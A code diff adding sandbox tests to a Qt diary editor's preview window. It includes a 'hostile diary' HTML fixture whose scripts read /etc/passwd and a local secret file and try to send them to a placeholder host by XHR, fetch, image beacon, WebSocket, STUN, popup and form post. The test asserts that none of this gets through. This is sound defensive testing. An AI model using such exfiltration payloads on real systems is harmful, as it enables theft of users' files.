@@ -13,15 +13,21 @@
 #include <QAccessible>
 #include <QAction>
 #include <QApplication>
+#include <QCheckBox>
 #include <QFile>
+#include <QImage>
+#include <QNetworkDatagram>
 #include <QPlainTextEdit>
 #include <QProcess>
 #include <QTabWidget>
+#include <QTcpServer>
+#include <QTcpSocket>
 #include <QTemporaryDir>
 #include <QTest>
 #include <QTextBlock>
 #include <QTextCursor>
 #include <QTextDocument>
+#include <QUdpSocket>
 #include <gtest/gtest.h>
 
 #include <memory>
@@ -107,13 +113,168 @@ TEST_F(PreviewWindowTest, TheDiaryPaneStartsOutsideCommentsWithTheDiarysStyleShe
     EXPECT_EQ(margin.toString(), QStringLiteral("33px"));
 }
 
-// Chromium takes no data: address over 2 MB, which is how a page is usually handed to it.
+// A listener on 127.0.0.1 that keeps what reaches it: the first line of every request over TCP
+// (HTTP, a WebSocket's opening), "connection" for each connection, "udp" for each datagram
+// (WebRTC's STUN).
+class Listener {
+public:
+    Listener()
+    {
+        tcp.listen(QHostAddress::LocalHost);
+        udp.bind(QHostAddress::LocalHost);
+        QObject::connect(&tcp, &QTcpServer::newConnection, [this] {
+            while (QTcpSocket* socket = tcp.nextPendingConnection()) {
+                heard << QStringLiteral("connection");
+                QObject::connect(socket, &QTcpSocket::readyRead, [this, socket] {
+                    heard << QString::fromLatin1(socket->readAll()).section(u'\r', 0, 0);
+                    socket->write("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
+                });
+            }
+        });
+        QObject::connect(&udp, &QUdpSocket::readyRead, [this] {
+            while (udp.hasPendingDatagrams())
+                heard << QStringLiteral("udp (%1 bytes)").arg(udp.receiveDatagram().data().size());
+        });
+    }
+    QStringList requests() const { return heard.filter(QStringLiteral("HTTP/")); }
+
+    QTcpServer tcp;
+    QUdpSocket udp;
+    QStringList heard;
+};
+
+// A diary that tries everything a page can to read the writer's files and send them away.
+QByteArray hostileDiary(const Listener& listener)
+{
+    return QByteArrayLiteral(R"(<html><head>
+<link rel="stylesheet" href="diary.css"><link rel="stylesheet" href="http://HOST/remote.css">
+<link rel="preconnect" href="http://HOST"><link rel="prefetch" href="http://HOST/prefetch">
+<style>@font-face{font-family:f;src:url(http://HOST/font.woff)} body{font-family:f}</style>
+<script>
+function read(u){try{var x=new XMLHttpRequest();x.open('GET',u,false);x.send();return x.responseText;}
+catch(e){return '';}}
+var d=encodeURIComponent(read('file:///etc/passwd')+read('secret.txt')), at='http://HOST/';
+document.write('<p>ran['+decodeURIComponent(d)+']</p>');
+var x=new XMLHttpRequest();x.open('GET',at+'xhr?'+d);x.send();
+fetch(at+'fetch?'+d).catch(function(){});
+new Image().src=at+'img?'+d;
+try{new WebSocket('ws://HOST/ws?'+d);}catch(e){}
+try{var c=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:UDP'}]});c.createDataChannel('d');
+c.createOffer().then(function(o){c.setLocalDescription(o);});}catch(e){}
+window.open(at+'popup');
+</script></head><body><p>own words</p><img id="own" src="own.png">
+<img src="http://HOST/remote.png"><iframe src="file:///etc/"></iframe><iframe name="t"></iframe>
+<form action="http://HOST/form" method="post" target="t"><input name="d"></form>
+<script>document.forms[0].d.value=d;document.forms[0].submit();</script></body></html>
+)")
+        .replace("HOST", "127.0.0.1:" + QByteArray::number(listener.tcp.serverPort()))
+        .replace("UDP", QByteArray::number(listener.udp.localPort()));
+}
+
+void writeFile(const QString& path, const QByteArray& bytes)
+{
+    QFile file(path);
+    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
+    file.write(bytes);
+}
+
+// What the diary pane shows, frames included, once its page and own picture are in.
+QString diaryShown(PageView* view)
+{
+    return pageValue(
+               view,
+               QStringLiteral("document.readyState=='complete'&&document.images.length&&document."
+                              "images[0].complete"),
+               QStringLiteral("[].map.call(document.querySelectorAll('iframe'),function(f)"
+                              "{var d=f.contentDocument;return d&&d.body?d.body.innerText:''})"
+                              ".concat(document.body.innerText).join('|')"))
+        .toString();
+}
+
+// Through the real preview, with the switches as the writer sets them: with both off the page
+// sends nothing and reads nothing; its scripts, when let run, still read no local file and
+// reach no host; the internet switch lets only the picture and the style sheet through. The
+// diary's own picture and style sheet show in every case.
+TEST_F(PreviewWindowTest, AHostileDiaryReadsNoFileAndReachesNoHost)
+{
+    Listener listener;
+    writeFile(folder.filePath(QStringLiteral("diary.css")), "p { margin-left: 33px }");
+    writeFile(folder.filePath(QStringLiteral("secret.txt")), "FOLDER-SECRET");
+    QImage picture(8, 8, QImage::Format_RGB32);
+    picture.fill(Qt::red);
+    ASSERT_TRUE(picture.save(folder.filePath(QStringLiteral("own.png"))));
+    openDiary(hostileDiary(listener), 0);
+    openPreview();
+    PageView* view = preview()->diaryView();
+
+    struct Case {
+        const char* name;
+        PreviewSwitches switches;
+        QStringList requests;
+    };
+    const Case cases[] = {
+        {"BothOff", {false, false}, {}},
+        {"ScriptsRun", {true, false}, {}},
+        {"InternetOn",
+         {false, true},
+         {QStringLiteral("GET /remote.css HTTP/1.1"), QStringLiteral("GET /remote.png HTTP/1.1")}},
+    };
+    for (const Case& c : cases) {
+        listener.heard.clear();
+        auto* scripts = preview()->findChild<QCheckBox*>(QStringLiteral("PreviewScripts"));
+        auto* remote = preview()->findChild<QCheckBox*>(QStringLiteral("PreviewRemote"));
+        if (scripts->isChecked() != c.switches.runScripts)
+            scripts->click();
+        if (remote->isChecked() != c.switches.loadRemote)
+            remote->click();
+        // The page shown anew: its script has run, or its pictures are asked for.
+        if (c.switches.runScripts)
+            shownText(view, QStringLiteral("ran["));
+        (void)QTest::qWaitFor([&] { return listener.requests().size() >= c.requests.size(); },
+                              20000);
+        const QString shown = diaryShown(view);
+        QTest::qWait(2000); // for what a page sends late: a WebSocket, STUN
+        QStringList requests = listener.requests();
+        requests.sort();
+        EXPECT_EQ(requests.join(u'\n').toStdString(), c.requests.join(u'\n').toStdString())
+            << c.name << "; heard:\n"
+            << listener.heard.join(u'\n').toStdString();
+        EXPECT_FALSE(listener.heard.join(u' ').contains(QStringLiteral("udp"))) << c.name;
+        // No connection opened ahead (preconnect) that no request uses.
+        EXPECT_LE(listener.heard.count(QStringLiteral("connection")), requests.size()) << c.name;
+        EXPECT_TRUE(shown.contains(QStringLiteral("own words"))) << c.name;
+        EXPECT_EQ(shown.contains(QStringLiteral("ran[]")), c.switches.runScripts) << c.name;
+        EXPECT_FALSE(shown.contains(QStringLiteral("root:"))) << c.name << shown.toStdString();
+        EXPECT_FALSE(shown.contains(QStringLiteral("FOLDER-SECRET"))) << c.name;
+        EXPECT_FALSE(shown.contains(QStringLiteral("Index of"))) << c.name << shown.toStdString();
+        const QString own = QStringLiteral("document.images[0].naturalWidth+' '+getComputedStyle("
+                                           "document.querySelector('p')).marginLeft");
+        EXPECT_EQ(pageValue(view, QStringLiteral("true"), own).toString(), QStringLiteral("8 33px"))
+            << c.name;
+        EXPECT_EQ(loadPreviewSwitches(fake.keyStore, path), c.switches) << c.name;
+    }
+    // Another diary shows its own switches.
+    const QString other = folder.filePath(QStringLiteral("other.htm"));
+    ASSERT_TRUE(savePreviewSwitches(fake.keyStore, other, {true, false}));
+    fake.files.files.insert(other, "<p>other</p>");
+    fake.fileDialogs.answers.push_back(other);
+    action("FileAllOpen")->trigger();
+    preview()->refresh();
+    EXPECT_TRUE(preview()->findChild<QCheckBox*>(QStringLiteral("PreviewScripts"))->isChecked());
+    EXPECT_FALSE(preview()->findChild<QCheckBox*>(QStringLiteral("PreviewRemote"))->isChecked());
+}
+
+// Chromium takes no data: address over 2 MB, which is how a page is usually handed to it. The
+// page written in pieces runs no script of its own either.
 TEST_F(PreviewWindowTest, ADiaryLineOfMegabytesIsShownWhole)
 {
-    openDiary("<p>" + QByteArray(2100 * 1024, 'a') + "</p><p>last-words</p>\r\n", 0);
+    openDiary("<p>" + QByteArray(2100 * 1024, 'a')
+                  + "</p><p>last-words</p><script>document.write('script-ran')</script>\r\n",
+              0);
     openPreview();
-    EXPECT_TRUE(shownText(preview()->diaryView(), QStringLiteral("last-words"))
-                    .contains(QStringLiteral("last-words")));
+    const QString shown = shownText(preview()->diaryView(), QStringLiteral("last-words"));
+    EXPECT_TRUE(shown.contains(QStringLiteral("last-words")));
+    EXPECT_FALSE(shown.contains(QStringLiteral("script-ran")));
 }
 
 TEST_F(PreviewWindowTest, F5AndEscCloseThePreviewFromInsideIt)
